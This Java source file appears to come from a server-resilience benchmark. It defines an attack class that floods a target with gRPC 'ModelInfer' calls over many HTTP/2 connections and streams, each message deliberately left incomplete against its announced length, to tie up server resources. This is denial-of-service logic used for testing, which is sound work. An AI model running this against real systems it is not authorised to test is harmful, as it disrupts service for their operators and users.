package dev.isthmus.bench.attack;

import dev.isthmus.bench.http2.FrameBytes;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * gRPC calls with incomplete messages, on many streams of many connections.
 *
 * @param bytes sent of each message, including the prefix
 * @param announced length of the message according to its prefix
 */
record UnendedCalls(String name, int connections, int streams, int bytes, int announced, int rounds) implements Attack {
    private static final long HELD_MILLIS = 4_000;

    @Override
    public AttackResult play(AttackTarget target) throws IOException, InterruptedException {
        byte[] whole = FrameBytes.message(false, announced, Messages.infer("r", "", announced / 4));
        byte[] part = Arrays.copyOf(whole, bytes);
        AttackResult.Counts counts = new AttackResult.Counts();
        for (int round = 0; round < (target.brief() ? 1 : rounds); round++) {
            List<Http2> wires = new ArrayList<>();
            try {
                for (int i = 0; i < connections; i++) {
                    wires.add(begin(new Http2(target.http2Port()), part));
                }
                long end = System.nanoTime() + HELD_MILLIS * 1_000_000;
                while (System.nanoTime() < end && wires.stream().anyMatch(wire -> wire.endedStreams() < streams)) {
                    Thread.sleep(20);
                    wires.forEach(NonBlockingConnection::poll);
                }
                wires.forEach(wire -> wire.count(counts));
            } finally {
                for (Http2 wire : wires) {
                    wire.close();
                }
            }
        }
        return counts.seen(true);
    }

    private Http2 begin(Http2 wire, byte[] part) throws InterruptedException {
        for (int i = 0; i < streams && wire.isOpen(); i++) {
            int stream = 2 * i + 1;
            wire.write(FrameBytes.call(stream, "ModelInfer"), 2_000);
            wire.data(stream, part, false);
        }
        return wire;
    }
}
